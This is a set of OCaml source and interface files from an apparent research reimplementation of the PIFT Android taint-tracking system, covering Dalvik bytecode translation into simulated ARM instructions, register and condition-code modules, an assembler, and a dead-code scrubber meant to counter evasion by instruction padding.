module Cond = Pift_arm.Cond
module B = Bytecode
open Insn

type resolved =
  | Plain of Bytecode.t
  | Static of Bytecode.t * int
  | Field of Bytecode.t * int
  | Invoke_bytecode of { arg_moves : (int * int) list; callee_registers : int }
  | Invoke_native of int list
  | New_ref of int

(* Interpreter register conventions (paper §4.1): r4 = rPC, r5 = rFP,
   r7 = rINST, r8 = rIBASE, r6 = rSELF.  Handlers use r0–r3 and r9–r12. *)
let rfp = Reg.rfp
let rpc = Reg.rpc
let rinst = Reg.rinst
let ribase = Reg.ribase
let rself = Reg.R6

let retval_off = Pift_runtime.Tcb.retval_offset
let exception_off = Pift_runtime.Tcb.exception_offset

let imm n = Imm n
let reg r = Reg r

(* mov rX, #v — operand decode with the vreg index baked in (the real
   interpreter extracts it from rINST with mov/ubfx). *)
let decode a dreg v = Asm.emit a (Mov (dreg, imm v))

(* GET_VREG / SET_VREG through a previously decoded index register. *)
let ldr_vreg a dst idx = Asm.emit a (Ldr (Word, dst, Offset (rfp, Shifted (idx, Lsl 2))))
let str_vreg a src idx = Asm.emit a (Str (Word, src, Offset (rfp, Shifted (idx, Lsl 2))))
let ldrd_vreg a dst idx = Asm.emit a (Ldr (Dword, dst, Offset (rfp, Shifted (idx, Lsl 2))))
let strd_vreg a src idx = Asm.emit a (Str (Dword, src, Offset (rfp, Shifted (idx, Lsl 2))))

(* FETCH_ADVANCE_INST: advance rPC one (4-byte) code unit and load the
   next instruction word — a real load from simulated code memory. *)
let fetch a = Asm.emit a (Ldr (Half, rinst, Pre (rpc, imm 4)))

(* GET_INST_OPCODE: extract the next opcode. *)
let opcode_extract a = Asm.emit a (Alu (And, false, Reg.R12, rinst, imm 255))

(* Handler-address computation preceding GOTO_OPCODE. *)
let dispatch_addr a =
  Asm.emit a (Alu (Add, false, Reg.R10, ribase, Shifted (Reg.R12, Lsl 6)))

let alu_of_binop = function
  | B.Add -> Add
  | B.Sub -> Sub
  | B.Mul -> Mul
  | B.And -> And
  | B.Or -> Orr
  | B.Xor -> Eor
  | B.Shl -> Lsl_op
  | B.Shr -> Asr_op
  | B.Div | B.Rem -> invalid_arg "alu_of_binop: division uses the helper"

(* Inline software division (the runtime-ABI helper of §4.1): restoring
   binary long division, 32 rounds.  Quotient in r10, remainder in r11.
   Numerator r0, denominator r1; r2/r3/r12 clobbered. *)
let emit_division a =
  Asm.emit a (Mov (Reg.R10, imm 0));
  Asm.emit a (Mov (Reg.R11, imm 0));
  Asm.emit a (Mov (Reg.R2, imm 31));
  Asm.label a "divloop";
  Asm.emit a (Alu (Lsl_op, false, Reg.R11, Reg.R11, imm 1));
  Asm.emit a (Alu (Lsr_op, false, Reg.R3, Reg.R0, reg Reg.R2));
  Asm.emit a (Alu (And, false, Reg.R3, Reg.R3, imm 1));
  Asm.emit a (Alu (Orr, false, Reg.R11, Reg.R11, reg Reg.R3));
  Asm.emit a (Alu (Lsl_op, false, Reg.R10, Reg.R10, imm 1));
  Asm.emit a (Cmp (Reg.R11, reg Reg.R1));
  Asm.branch a Cond.Lt "divskip";
  Asm.emit a (Alu (Sub, false, Reg.R11, Reg.R11, reg Reg.R1));
  Asm.emit a (Alu (Orr, false, Reg.R10, Reg.R10, imm 1));
  Asm.label a "divskip";
  Asm.emit a (Alu (Sub, true, Reg.R2, Reg.R2, imm 1));
  Asm.branch a Cond.Ge "divloop"

let build f =
  let a = Asm.create () in
  f a;
  Asm.ret a;
  Asm.assemble a

let elem_shift = function
  | `Word -> 2
  | `Char -> 1
  | `Byte -> 0

let elem_width = function `Word -> Word | `Char -> Half | `Byte -> Byte

(* aget family: value <- array element.  Data-load → store distance 2. *)
let emit_aget a ~dst ~arr ~idx ~kind =
  decode a Reg.R3 arr;
  decode a Reg.R2 idx;
  decode a Reg.R9 dst;
  ldr_vreg a Reg.R0 Reg.R3;
  ldr_vreg a Reg.R1 Reg.R2;
  Asm.emit a (Alu (Add, false, Reg.R0, Reg.R0, Shifted (Reg.R1, Lsl (elem_shift kind))));
  Asm.emit a (Ldr (elem_width kind, Reg.R10, Offset (Reg.R0, imm 8)));
  fetch a;
  str_vreg a Reg.R10 Reg.R9;
  opcode_extract a

(* aput family (non-object): element <- value.  Distance 2. *)
let emit_aput a ~src ~arr ~idx ~kind =
  decode a Reg.R3 arr;
  decode a Reg.R2 idx;
  decode a Reg.R9 src;
  ldr_vreg a Reg.R0 Reg.R3;
  ldr_vreg a Reg.R1 Reg.R2;
  Asm.emit a (Alu (Add, false, Reg.R0, Reg.R0, Shifted (Reg.R1, Lsl (elem_shift kind))));
  ldr_vreg a Reg.R10 Reg.R9;
  fetch a;
  Asm.emit a (Str (elem_width kind, Reg.R10, Offset (Reg.R0, imm 8)));
  opcode_extract a

(* aput-object: the type check (two class loads, compare) between the
   value load and the element store stretches the distance to 10. *)
let emit_aput_object a ~src ~arr ~idx =
  decode a Reg.R3 arr;
  decode a Reg.R2 idx;
  decode a Reg.R9 src;
  ldr_vreg a Reg.R0 Reg.R3;
  ldr_vreg a Reg.R1 Reg.R2;
  ldr_vreg a Reg.R10 Reg.R9;
  (* value ref loaded; type check + dispatch + address arithmetic: *)
  Asm.emit a (Ldr (Word, Reg.R11, Offset (Reg.R10, imm 0)));
  Asm.emit a (Ldr (Word, Reg.R12, Offset (Reg.R0, imm 0)));
  Asm.emit a (Cmp (Reg.R11, reg Reg.R12));
  fetch a;
  opcode_extract a;
  (* handler-address computation into r3 (r10 holds the value) *)
  Asm.emit a (Alu (Add, false, Reg.R3, ribase, Shifted (Reg.R12, Lsl 6)));
  Asm.emit a (Alu (Add, false, Reg.R0, Reg.R0, Shifted (Reg.R1, Lsl 2)));
  Asm.emit a (Alu (Add, false, Reg.R0, Reg.R0, imm 8));
  Asm.emit a (Mov (Reg.R11, reg Reg.R10));
  Asm.emit a (Str (Word, Reg.R11, Offset (Reg.R0, imm 0)))

let emit_move a ~dst ~src ~short =
  decode a Reg.R3 src;
  decode a Reg.R9 dst;
  ldr_vreg a Reg.R1 Reg.R3;
  fetch a;
  if not short then opcode_extract a;
  str_vreg a Reg.R1 Reg.R9;
  if short then opcode_extract a

let emit_binop a op ~dst ~src1 ~src2 =
  decode a Reg.R3 src1;
  decode a Reg.R2 src2;
  decode a Reg.R9 dst;
  ldr_vreg a Reg.R1 Reg.R3;
  ldr_vreg a Reg.R0 Reg.R2;
  match op with
  | B.Div | B.Rem ->
      fetch a;
      (* numerator r0? arguments: numerator = src1 (r1), denom = src2 (r0):
         move into helper registers. *)
      Asm.emit a (Mov (Reg.R12, reg Reg.R0));
      Asm.emit a (Mov (Reg.R0, reg Reg.R1));
      Asm.emit a (Mov (Reg.R1, reg Reg.R12));
      emit_division a;
      opcode_extract a;
      let res = if op = B.Div then Reg.R10 else Reg.R11 in
      str_vreg a res Reg.R9
  | _ ->
      fetch a;
      Asm.emit a (Alu (alu_of_binop op, false, Reg.R0, Reg.R1, reg Reg.R0));
      opcode_extract a;
      str_vreg a Reg.R0 Reg.R9

let fragment resolved =
  match resolved with
  | New_ref dst ->
      (* Allocator/resolver result arrives in r0; store it to vA. *)
      build (fun a ->
          decode a Reg.R9 dst;
          fetch a;
          opcode_extract a;
          str_vreg a Reg.R0 Reg.R9)
  | Invoke_bytecode { arg_moves; callee_registers } ->
      build (fun a ->
          (* Save interpreter state, carve the callee frame just below the
             caller's, copy arguments (load/store distance 1 each). *)
          Asm.emit a (Stm (Reg.SP, [ rpc; rfp; rinst ]));
          Asm.emit a
            (Alu (Sub, false, Reg.R11, rfp, imm (4 * callee_registers)));
          List.iter
            (fun (src, dst) ->
              Asm.emit a (Ldr (Word, Reg.R2, Offset (rfp, imm (4 * src))));
              Asm.emit a (Str (Word, Reg.R2, Offset (Reg.R11, imm (4 * dst)))))
            arg_moves)
  | Invoke_native srcs ->
      build (fun a ->
          let arg_regs = [| Reg.R0; Reg.R1; Reg.R2; Reg.R10; Reg.R11 |] in
          List.iteri
            (fun i src ->
              if i >= Array.length arg_regs then
                invalid_arg "Translate: too many native arguments";
              decode a Reg.R3 src;
              ldr_vreg a arg_regs.(i) Reg.R3)
            srcs)
  | Static (bc, addr) -> (
      match bc with
      | B.Sget (dst, _) | B.Sget_object (dst, _) ->
          build (fun a ->
              Asm.emit a (Mov (Reg.R2, imm addr));
              decode a Reg.R9 dst;
              Asm.emit a (Ldr (Word, Reg.R0, Offset (Reg.R2, imm 0)));
              fetch a;
              opcode_extract a;
              str_vreg a Reg.R0 Reg.R9)
      | B.Sput (src, _) | B.Sput_object (src, _) ->
          build (fun a ->
              decode a Reg.R9 src;
              Asm.emit a (Mov (Reg.R2, imm addr));
              ldr_vreg a Reg.R0 Reg.R9;
              fetch a;
              Asm.emit a (Str (Word, Reg.R0, Offset (Reg.R2, imm 0)));
              opcode_extract a)
      | _ -> invalid_arg "Translate.fragment: Static wraps non-static op")
  | Field (bc, off) -> (
      match bc with
      | B.Iget (dst, obj, _) | B.Iget_object (dst, obj, _) ->
          build (fun a ->
              decode a Reg.R3 obj;
              decode a Reg.R9 dst;
              ldr_vreg a Reg.R0 Reg.R3;
              Asm.emit a (Cmp (Reg.R0, imm 0));
              Asm.emit a (Ldr (Word, Reg.R1, Offset (Reg.R0, imm off)));
              fetch a;
              opcode_extract a;
              dispatch_addr a;
              Asm.emit a (Mov (Reg.R2, reg Reg.R1));
              str_vreg a Reg.R2 Reg.R9)
      | B.Iget_wide (dst, obj, _) ->
          build (fun a ->
              decode a Reg.R3 obj;
              decode a Reg.R9 dst;
              ldr_vreg a Reg.R0 Reg.R3;
              Asm.emit a (Cmp (Reg.R0, imm 0));
              Asm.emit a (Ldr (Dword, Reg.R1, Offset (Reg.R0, imm off)));
              fetch a;
              opcode_extract a;
              dispatch_addr a;
              Asm.emit a (Mov (Reg.R10, reg Reg.R1));
              strd_vreg a Reg.R1 Reg.R9)
      | B.Iput (src, obj, _) | B.Iput_object (src, obj, _) ->
          build (fun a ->
              decode a Reg.R3 obj;
              decode a Reg.R9 src;
              ldr_vreg a Reg.R0 Reg.R3;
              Asm.emit a (Cmp (Reg.R0, imm 0));
              ldr_vreg a Reg.R1 Reg.R9;
              fetch a;
              opcode_extract a;
              dispatch_addr a;
              Asm.emit a (Str (Word, Reg.R1, Offset (Reg.R0, imm off))))
      | _ -> invalid_arg "Translate.fragment: Field wraps non-field op")
  | Plain bc -> (
      match bc with
      | B.Nop -> build (fun a -> fetch a; opcode_extract a)
      | B.Move (dst, src) | B.Move_object (dst, src) ->
          build (fun a -> emit_move a ~dst ~src ~short:false)
      | B.Move_from16 (dst, src) | B.Move_object_from16 (dst, src) ->
          build (fun a -> emit_move a ~dst ~src ~short:true)
      | B.Move_wide (dst, src) ->
          build (fun a ->
              decode a Reg.R3 src;
              decode a Reg.R9 dst;
              ldrd_vreg a Reg.R0 Reg.R3;
              fetch a;
              opcode_extract a;
              strd_vreg a Reg.R0 Reg.R9)
      | B.Move_result dst | B.Move_result_object dst ->
          build (fun a ->
              decode a Reg.R9 dst;
              Asm.emit a (Ldr (Word, Reg.R0, Offset (rself, imm retval_off)));
              fetch a;
              str_vreg a Reg.R0 Reg.R9;
              opcode_extract a)
      | B.Move_exception dst ->
          build (fun a ->
              decode a Reg.R9 dst;
              Asm.emit a
                (Ldr (Word, Reg.R0, Offset (rself, imm exception_off)));
              fetch a;
              str_vreg a Reg.R0 Reg.R9;
              opcode_extract a)
      | B.Const4 (dst, v) | B.Const16 (dst, v) | B.Const (dst, v) ->
          build (fun a ->
              decode a Reg.R9 dst;
              Asm.emit a (Mov (Reg.R1, imm v));
              fetch a;
              opcode_extract a;
              str_vreg a Reg.R1 Reg.R9)
      | B.Return_void -> build (fun a -> ignore a)
      | B.Return src | B.Return_object src ->
          build (fun a ->
              decode a Reg.R9 src;
              ldr_vreg a Reg.R0 Reg.R9;
              Asm.emit a (Str (Word, Reg.R0, Offset (rself, imm retval_off))))
      | B.Return_wide src ->
          build (fun a ->
              decode a Reg.R9 src;
              ldrd_vreg a Reg.R0 Reg.R9;
              Asm.emit a (Str (Dword, Reg.R0, Offset (rself, imm retval_off))))
      | B.Array_length (dst, arr) ->
          build (fun a ->
              decode a Reg.R3 arr;
              decode a Reg.R9 dst;
              ldr_vreg a Reg.R0 Reg.R3;
              Asm.emit a (Ldr (Word, Reg.R1, Offset (Reg.R0, imm 4)));
              fetch a;
              str_vreg a Reg.R1 Reg.R9;
              opcode_extract a)
      | B.Aget (d, r, i) -> build (fun a -> emit_aget a ~dst:d ~arr:r ~idx:i ~kind:`Word)
      | B.Aget_char (d, r, i) -> build (fun a -> emit_aget a ~dst:d ~arr:r ~idx:i ~kind:`Char)
      | B.Aget_byte (d, r, i) -> build (fun a -> emit_aget a ~dst:d ~arr:r ~idx:i ~kind:`Byte)
      | B.Aget_object (d, r, i) -> build (fun a -> emit_aget a ~dst:d ~arr:r ~idx:i ~kind:`Word)
      | B.Aput (s, r, i) -> build (fun a -> emit_aput a ~src:s ~arr:r ~idx:i ~kind:`Word)
      | B.Aput_char (s, r, i) -> build (fun a -> emit_aput a ~src:s ~arr:r ~idx:i ~kind:`Char)
      | B.Aput_byte (s, r, i) -> build (fun a -> emit_aput a ~src:s ~arr:r ~idx:i ~kind:`Byte)
      | B.Aput_object (s, r, i) -> build (fun a -> emit_aput_object a ~src:s ~arr:r ~idx:i)
      | B.Binop (op, d, s1, s2) -> build (fun a -> emit_binop a op ~dst:d ~src1:s1 ~src2:s2)
      | B.Binop_2addr (op, d, s) -> build (fun a -> emit_binop a op ~dst:d ~src1:d ~src2:s)
      | B.Binop_lit8 (op, d, s, lit) -> (
          match op with
          | B.Div | B.Rem ->
              build (fun a ->
                  decode a Reg.R3 s;
                  decode a Reg.R9 d;
                  ldr_vreg a Reg.R0 Reg.R3;
                  fetch a;
                  Asm.emit a (Mov (Reg.R1, imm lit));
                  emit_division a;
                  opcode_extract a;
                  let res = if op = B.Div then Reg.R10 else Reg.R11 in
                  str_vreg a res Reg.R9)
          | _ ->
              build (fun a ->
                  decode a Reg.R3 s;
                  decode a Reg.R9 d;
                  ldr_vreg a Reg.R0 Reg.R3;
                  fetch a;
                  Asm.emit a (Mov (Reg.R1, imm lit));
                  Asm.emit a
                    (Alu (alu_of_binop op, false, Reg.R0, Reg.R0, reg Reg.R1));
                  opcode_extract a;
                  str_vreg a Reg.R0 Reg.R9))
      | B.Neg_int (d, s) ->
          build (fun a ->
              decode a Reg.R3 s;
              decode a Reg.R9 d;
              ldr_vreg a Reg.R0 Reg.R3;
              fetch a;
              Asm.emit a (Alu (Rsb, false, Reg.R0, Reg.R0, imm 0));
              opcode_extract a;
              str_vreg a Reg.R0 Reg.R9)
      | B.Int_to_char (d, s) | B.Int_to_byte (d, s) ->
          let mask = match bc with B.Int_to_char _ -> 0xFFFF | _ -> 0xFF in
          build (fun a ->
              decode a Reg.R3 s;
              decode a Reg.R9 d;
              ldr_vreg a Reg.R0 Reg.R3;
              fetch a;
              Asm.emit a (Alu (And, false, Reg.R0, Reg.R0, imm mask));
              opcode_extract a;
              dispatch_addr a;
              Asm.emit a (Mov (Reg.R1, reg Reg.R0));
              str_vreg a Reg.R1 Reg.R9)
      | B.Int_to_long (d, s) ->
          build (fun a ->
              decode a Reg.R3 s;
              decode a Reg.R9 d;
              ldr_vreg a Reg.R0 Reg.R3;
              fetch a;
              Asm.emit a (Alu (Asr_op, false, Reg.R1, Reg.R0, imm 31));
              opcode_extract a;
              dispatch_addr a;
              strd_vreg a Reg.R0 Reg.R9)
      | B.Long_to_int (d, s) ->
          build (fun a ->
              decode a Reg.R3 s;
              decode a Reg.R9 d;
              ldr_vreg a Reg.R0 Reg.R3;
              fetch a;
              opcode_extract a;
              str_vreg a Reg.R0 Reg.R9)
      | B.Add_long (d, s1, s2) | B.Sub_long (d, s1, s2) ->
          let op = match bc with B.Add_long _ -> Add | _ -> Sub in
          build (fun a ->
              decode a Reg.R3 s1;
              decode a Reg.R2 s2;
              decode a Reg.R9 d;
              ldrd_vreg a Reg.R0 Reg.R3;
              ldrd_vreg a Reg.R2 Reg.R2;
              fetch a;
              Asm.emit a (Alu (op, false, Reg.R0, Reg.R0, reg Reg.R2));
              Asm.emit a (Alu (op, false, Reg.R1, Reg.R1, reg Reg.R3));
              opcode_extract a;
              strd_vreg a Reg.R0 Reg.R9)
      | B.Mul_long (d, s1, s2) ->
          build (fun a ->
              decode a Reg.R3 s1;
              decode a Reg.R2 s2;
              decode a Reg.R9 d;
              ldrd_vreg a Reg.R0 Reg.R3;
              ldrd_vreg a Reg.R2 Reg.R2;
              fetch a;
              Asm.emit a (Alu (Mul, false, Reg.R10, Reg.R0, reg Reg.R3));
              Asm.emit a (Alu (Mul, false, Reg.R11, Reg.R1, reg Reg.R2));
              Asm.emit a (Alu (Add, false, Reg.R10, Reg.R10, reg Reg.R11));
              Asm.emit a (Alu (Mul, false, Reg.R11, Reg.R0, reg Reg.R2));
              Asm.emit a (Alu (Add, false, Reg.R1, Reg.R10, imm 0));
              Asm.emit a (Mov (Reg.R0, reg Reg.R11));
              opcode_extract a;
              strd_vreg a Reg.R0 Reg.R9)
      | B.Shr_long (d, s1, s2) ->
          build (fun a ->
              decode a Reg.R3 s1;
              decode a Reg.R2 s2;
              decode a Reg.R9 d;
              ldrd_vreg a Reg.R0 Reg.R3;
              ldr_vreg a Reg.R2 Reg.R2;
              fetch a;
              Asm.emit a (Alu (Rsb, false, Reg.R3, Reg.R2, imm 32));
              Asm.emit a (Alu (Lsr_op, false, Reg.R0, Reg.R0, reg Reg.R2));
              Asm.emit a (Alu (Lsl_op, false, Reg.R11, Reg.R1, reg Reg.R3));
              Asm.emit a (Alu (Orr, false, Reg.R0, Reg.R0, reg Reg.R11));
              Asm.emit a (Alu (Asr_op, false, Reg.R1, Reg.R1, reg Reg.R2));
              opcode_extract a;
              strd_vreg a Reg.R0 Reg.R9)
      | B.Cmp_long (d, s1, s2) ->
          build (fun a ->
              decode a Reg.R3 s1;
              decode a Reg.R2 s2;
              decode a Reg.R9 d;
              ldrd_vreg a Reg.R0 Reg.R3;
              ldrd_vreg a Reg.R2 Reg.R2;
              fetch a;
              Asm.emit a (Alu (Sub, false, Reg.R10, Reg.R1, reg Reg.R3));
              Asm.emit a (Alu (Sub, false, Reg.R11, Reg.R0, reg Reg.R2));
              Asm.emit a (Alu (Orr, false, Reg.R10, Reg.R10, reg Reg.R11));
              opcode_extract a;
              str_vreg a Reg.R10 Reg.R9)
      | B.Goto _ -> build (fun a -> fetch a; opcode_extract a)
      | B.If_test (_, va, vb, _) ->
          build (fun a ->
              decode a Reg.R3 va;
              decode a Reg.R2 vb;
              ldr_vreg a Reg.R0 Reg.R3;
              ldr_vreg a Reg.R1 Reg.R2;
              Asm.emit a (Cmp (Reg.R0, reg Reg.R1));
              fetch a)
      | B.If_testz (_, va, _) ->
          build (fun a ->
              decode a Reg.R3 va;
              ldr_vreg a Reg.R0 Reg.R3;
              Asm.emit a (Cmp (Reg.R0, imm 0));
              fetch a)
      | B.Packed_switch (va, _, _) ->
          build (fun a ->
              decode a Reg.R3 va;
              ldr_vreg a Reg.R0 Reg.R3;
              fetch a)
      | B.Throw src ->
          build (fun a ->
              decode a Reg.R9 src;
              ldr_vreg a Reg.R0 Reg.R9;
              Asm.emit a
                (Str (Word, Reg.R0, Offset (rself, imm exception_off))))
      | B.Monitor_enter src | B.Monitor_exit src ->
          build (fun a ->
              decode a Reg.R3 src;
              ldr_vreg a Reg.R0 Reg.R3;
              Asm.emit a (Ldr (Word, Reg.R1, Offset (Reg.R0, imm 0)));
              Asm.emit a (Cmp (Reg.R1, imm 0));
              fetch a;
              opcode_extract a)
      | B.Check_cast (src, _) ->
          build (fun a ->
              decode a Reg.R3 src;
              ldr_vreg a Reg.R0 Reg.R3;
              Asm.emit a (Ldr (Word, Reg.R1, Offset (Reg.R0, imm 0)));
              fetch a;
              opcode_extract a)
      | B.Const_string _ | B.New_instance _ | B.New_array _
      | B.Instance_of _ ->
          invalid_arg
            "Translate.fragment: allocator/resolver ops need New_ref"
      | B.Iget _ | B.Iget_object _ | B.Iget_wide _ | B.Iput _
      | B.Iput_object _ ->
          invalid_arg "Translate.fragment: field ops need Field"
      | B.Sget _ | B.Sget_object _ | B.Sput _ | B.Sput_object _ ->
          invalid_arg "Translate.fragment: static ops need Static"
      | B.Invoke _ | B.Invoke_range _ ->
          invalid_arg "Translate.fragment: invokes need Invoke_*")

let is_interpreter_overhead = function
  (* FETCH_ADVANCE_INST *)
  | Ldr (Half, r, Pre (r4, Imm _)) when Reg.equal r rinst && Reg.equal r4 rpc
    ->
      true
  (* GET_INST_OPCODE *)
  | Alu (And, false, r12, r, Imm 255)
    when Reg.equal r12 Reg.R12 && Reg.equal r rinst ->
      true
  (* handler-address computation *)
  | Alu (Add, false, _, r8, Shifted (r12, _))
    when Reg.equal r8 ribase && Reg.equal r12 Reg.R12 ->
      true
  | _ -> false

(* Branch targets are indices, so only branch-free handlers are
   compacted; branchy ones (the division helper) keep their shape, as a
   real JIT calling the same ABI helper would. *)
let jit_optimize frag =
  if not (Pift_arm.Scrubber.straight_line frag) then frag
  else
    let kept =
      Array.of_list
        (List.filter
           (fun insn -> not (is_interpreter_overhead insn))
           (Array.to_list frag))
    in
    Pift_arm.Scrubber.scrub kept

type distance_spec = Fixed of int | Approx of int * int | Unknown | No_flow

let expected_distance = function
  | B.Return _ | B.Return_object _ | B.Return_wide _ -> Fixed 1
  | B.Move_result _ | B.Move_result_object _ | B.Move_exception _
  | B.Move_from16 _ | B.Move_object_from16 _ | B.Aget _ | B.Aget_char _ | B.Aget_byte _
  | B.Aget_object _ | B.Aput _ | B.Aput_char _ | B.Aput_byte _ | B.Sput _
  | B.Sput_object _ | B.Array_length _ ->
      Fixed 2
  | B.Move _ | B.Move_object _ | B.Move_wide _ | B.Sget _ | B.Sget_object _
  | B.Long_to_int _ ->
      Fixed 3
  | B.Iput _ | B.Iput_object _ | B.Neg_int _ -> Fixed 4
  | B.Iget _ | B.Iget_object _ | B.Iget_wide _ | B.Int_to_long _ -> Fixed 5
  | B.Binop (op, _, _, _) | B.Binop_2addr (op, _, _) -> (
      match op with B.Div | B.Rem -> Unknown | _ -> Fixed 5)
  | B.Binop_lit8 (op, _, _, _) -> (
      match op with B.Div | B.Rem -> Unknown | _ -> Fixed 5)
  | B.Int_to_char _ | B.Int_to_byte _ -> Fixed 6
  | B.Add_long _ | B.Sub_long _ -> Fixed 6
  | B.Cmp_long _ -> Approx (7, 8)
  | B.Mul_long _ | B.Shr_long _ -> Approx (9, 12)
  | B.Aput_object _ -> Approx (9, 12)
  | B.Throw _ -> Fixed 1
  | B.Nop | B.Const4 _ | B.Const16 _ | B.Const _ | B.Const_string _
  | B.Return_void | B.New_instance _ | B.New_array _ | B.Goto _
  | B.If_test _ | B.If_testz _ | B.Packed_switch _ | B.Invoke _
  | B.Invoke_range _ | B.Monitor_enter _ | B.Monitor_exit _
  | B.Check_cast _ | B.Instance_of _ ->
      No_flow
