(** Compiler support against PIFT evasion (the paper's §4.2 limitation and
    §7 future work).

    An attacker can defeat the tainting window by inserting a long block
    of dummy native instructions between the load of sensitive data and
    its store ("native code obfuscation").  The paper's proposed
    countermeasure is a compiler pass that "could eliminate dummy code
    inserted between related load/store instructions and could relocate
    such instructions to be closer to each other".

    This module implements the eliminate half as a backward-liveness
    dead-code pass over straight-line fragments: register-only
    instructions whose results can never reach memory, a live-out
    register, or the flags are removed, which collapses dummy filler and
    restores the short load→store distances PIFT relies on.  (The general
    problem is of course undecidable — the paper says as much — so the
    pass is sound but not complete: it bails out on fragments with
    internal control flow.) *)

val straight_line : Asm.fragment -> bool
(** No internal control flow (only a final [bx lr] return). *)

val scrub : ?live_out:Reg.t list -> Asm.fragment -> Asm.fragment
(** [scrub ~live_out frag] removes dead register-only instructions.
    [live_out] is the set of registers meaningful after the fragment
    returns (defaults to the interpreter convention: r4/r5/r7/r8 state
    registers, r6, SP, LR, PC — all scratch registers r0–r3, r9–r12 are
    dead on exit).  Fragments containing internal branches or calls are
    returned unchanged. *)

val relocate_stores : Asm.fragment -> Asm.fragment
(** The other half of the §7 countermeasure: "relocate such instructions
    to be closer to each other".  Each store is hoisted upward past
    register-only instructions that neither produce its operands nor set
    flags, until it meets the instruction that defines its data or
    address (or another memory access / flag producer, which blocks the
    motion conservatively).  Padding that the dead-code pass cannot
    remove — because the attacker made it live — still loses its
    distance-stretching effect.  Straight-line fragments only; others are
    returned unchanged. *)

val removed : before:Asm.fragment -> after:Asm.fragment -> int
(** Convenience: how many instructions the pass removed. *)
