(** General-purpose registers of the simulated ARM-flavoured CPU.

    The Dalvik interpreter translations (see {!Pift_dalvik.Translate}) use
    the same register conventions as the paper's traces: [r4] holds the
    bytecode PC ([rPC]), [r5] the virtual-register frame pointer ([rFP]),
    [r7] the current instruction word ([rINST]) and [r8] the handler table
    base ([rIBASE]). *)

type t =
  | R0
  | R1
  | R2
  | R3
  | R4
  | R5
  | R6
  | R7
  | R8
  | R9
  | R10
  | R11
  | R12
  | SP
  | LR
  | PC

val all : t array

val index : t -> int
(** Position in the register file, [0..15]. *)

val of_index : int -> t
(** Inverse of {!index}.  Raises [Invalid_argument] outside [0..15]. *)

val succ : t -> t
(** Next register, for the second transfer register of [ldrd]/[strd].
    Raises [Invalid_argument] on [PC]. *)

(* Dalvik interpreter aliases. *)

val rpc : t
val rfp : t
val rinst : t
val ribase : t

val equal : t -> t -> bool
val pp : Format.formatter -> t -> unit
val to_string : t -> string
