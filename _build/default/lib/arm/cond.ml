type t = Always | Eq | Ne | Lt | Le | Gt | Ge | Lo | Hs | Hi | Ls

let signed v = if v land 0x8000_0000 <> 0 then v - 0x1_0000_0000 else v

let holds c ~fst ~snd =
  let s1 = signed fst and s2 = signed snd in
  match c with
  | Always -> true
  | Eq -> fst = snd
  | Ne -> fst <> snd
  | Lt -> s1 < s2
  | Le -> s1 <= s2
  | Gt -> s1 > s2
  | Ge -> s1 >= s2
  | Lo -> fst < snd
  | Hs -> fst >= snd
  | Hi -> fst > snd
  | Ls -> fst <= snd

let to_string = function
  | Always -> ""
  | Eq -> "eq"
  | Ne -> "ne"
  | Lt -> "lt"
  | Le -> "le"
  | Gt -> "gt"
  | Ge -> "ge"
  | Lo -> "lo"
  | Hs -> "hs"
  | Hi -> "hi"
  | Ls -> "ls"

let pp ppf c = Format.pp_print_string ppf (to_string c)
