(** Condition codes evaluated against the most recent flag-setting
    comparison.

    The machine keeps the two compared values rather than encoded NZCV
    flags; each code is evaluated directly on them, which keeps the
    semantics obviously correct. *)

type t =
  | Always
  | Eq  (** equal *)
  | Ne  (** not equal *)
  | Lt  (** signed less-than *)
  | Le  (** signed less-or-equal *)
  | Gt  (** signed greater-than *)
  | Ge  (** signed greater-or-equal *)
  | Lo  (** unsigned lower *)
  | Hs  (** unsigned higher-or-same *)
  | Hi  (** unsigned higher *)
  | Ls  (** unsigned lower-or-same *)

val holds : t -> fst:int -> snd:int -> bool
(** [holds c ~fst ~snd] — does [fst c snd] hold?  Operands are 32-bit
    values; signed codes reinterpret them as two's-complement. *)

val pp : Format.formatter -> t -> unit
val to_string : t -> string
