type t =
  | R0
  | R1
  | R2
  | R3
  | R4
  | R5
  | R6
  | R7
  | R8
  | R9
  | R10
  | R11
  | R12
  | SP
  | LR
  | PC

let all =
  [| R0; R1; R2; R3; R4; R5; R6; R7; R8; R9; R10; R11; R12; SP; LR; PC |]

let index = function
  | R0 -> 0
  | R1 -> 1
  | R2 -> 2
  | R3 -> 3
  | R4 -> 4
  | R5 -> 5
  | R6 -> 6
  | R7 -> 7
  | R8 -> 8
  | R9 -> 9
  | R10 -> 10
  | R11 -> 11
  | R12 -> 12
  | SP -> 13
  | LR -> 14
  | PC -> 15

let of_index i =
  if i < 0 || i > 15 then invalid_arg "Reg.of_index: out of range";
  all.(i)

let succ r =
  match r with
  | PC -> invalid_arg "Reg.succ: no successor of PC"
  | _ -> of_index (index r + 1)

let rpc = R4
let rfp = R5
let rinst = R7
let ribase = R8
let equal a b = index a = index b

let to_string = function
  | SP -> "sp"
  | LR -> "lr"
  | PC -> "pc"
  | r -> "r" ^ string_of_int (index r)

let pp ppf r = Format.pp_print_string ppf (to_string r)
