(** Assembly builder: constructs instruction fragments with symbolic
    labels, resolved to array indices at assembly time.

    Native runtime intrinsics and Dalvik translation sequences are built
    through this module; loops such as the string char-copy of the paper's
    Fig. 1 use backward branches to named labels. *)

type fragment = Insn.t array

type t

val create : unit -> t

val emit : t -> Insn.t -> unit
(** Append one instruction. *)

val emit_all : t -> Insn.t list -> unit

val label : t -> string -> unit
(** Bind [name] to the next emitted instruction's position.  Raises
    [Invalid_argument] when the label is already bound. *)

val branch : t -> Cond.t -> string -> unit
(** Emit a (conditional) branch to a label, which may be defined later. *)

val call : t -> string -> unit
(** Emit [bl] to a label. *)

val ret : t -> unit
(** Emit the [bx lr] return idiom. *)

val here : t -> int
(** Index the next instruction will occupy. *)

val assemble : t -> fragment
(** Resolve all label references.  Raises [Failure] naming any label that
    was referenced but never bound. *)
