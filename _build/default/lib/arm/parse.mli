(** Parser for the textual assembly syntax produced by {!Insn.pp} —
    the inverse of the disassembler, so fragments can be written (and
    traces inspected) as plain text.

    {[
      let frag =
        Parse.fragment_exn
          {|
            mov r3, #0
          loop:
            cmp r3, r5
            bge end
            ldrh r6, [r1, r4]
            strh r6, [r0, r4]
            add r3, r3, #1
            add r4, r4, #2
            b loop
          end:
            bx lr
          |}
    ]}

    Within {!fragment}, branch targets are symbolic labels (bound with
    [name:] lines); within {!insn}, they are the [.L<index>] form the
    printer emits. *)

val insn : string -> (Insn.t, string) result
(** Parse one instruction.  Round trip: [insn (Insn.to_string i) = Ok i]
